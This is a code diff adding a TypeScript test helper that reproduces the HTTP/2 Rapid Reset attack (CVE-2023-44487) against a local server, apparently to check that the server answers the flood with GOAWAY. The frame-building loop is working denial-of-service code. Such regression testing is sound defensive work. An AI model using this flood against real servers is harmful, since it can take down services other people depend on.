@@ -61,3 +61,57 @@ export function rawH2Request(port: number, client: IssuedSvid, fields: Array<[st
     });
   });
 }
+
+/**
+ * CVE-2023-44487's pattern on one connection: HEADERS then RST_STREAM(CANCEL) for stream after
+ * stream, `n` of them, 50 per write. Resolves with the GOAWAY code the server sent (or undefined
+ * if the connection closed without one) and how many streams were written before it came.
+ */
+export function rawRapidReset(port: number, client: IssuedSvid, n: number): Promise<{ goaway: number | undefined; written: number }> {
+  return new Promise((resolve) => {
+    const socket = connect({ host: '127.0.0.1', port, cert: client.certChainPem, key: client.keyPem, rejectUnauthorized: false, ALPNProtocols: ['h2'] });
+    let buf = Buffer.alloc(0);
+    let written = 0;
+    let goaway: number | undefined;
+    const done = () => {
+      resolve({ goaway, written });
+      socket.destroy();
+    };
+    socket.setTimeout(5000, done);
+    socket.on('error', done);
+    socket.on('close', done);
+    const block = Buffer.concat([literal(':method', 'GET'), literal(':scheme', 'https'), literal(':path', '/x'), literal(':authority', 'payments')]);
+    const cancel = Buffer.alloc(4);
+    cancel.writeUInt32BE(8); // CANCEL
+    const burst = () => {
+      if (goaway !== undefined || socket.destroyed || written >= n) return;
+      const frames: Buffer[] = [];
+      for (let i = 0; i < 50 && written < n; i++, written++) {
+        const id = 2 * written + 1;
+        frames.push(frame(1, 0x5, id, block), frame(3, 0, id, cancel));
+      }
+      socket.write(Buffer.concat(frames));
+      setImmediate(burst);
+    };
+    socket.on('secureConnect', () => {
+      socket.write(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0))]));
+      burst();
+    });
+    socket.on('data', (d: Buffer) => {
+      buf = Buffer.concat([buf, d]);
+      while (buf.length >= 9) {
+        const len = buf.readUIntBE(0, 3);
+        if (buf.length < 9 + len) break;
+        const type = buf[3]!;
+        const flags = buf[4]!;
+        const payload = buf.subarray(9, 9 + len);
+        buf = buf.subarray(9 + len);
+        if (type === 4 && (flags & 1) === 0) socket.write(frame(4, 1, 0, Buffer.alloc(0)));
+        if (type === 7) {
+          goaway = payload.readUInt32BE(4);
+          return done();
+        }
+      }
+    });
+  });
+}
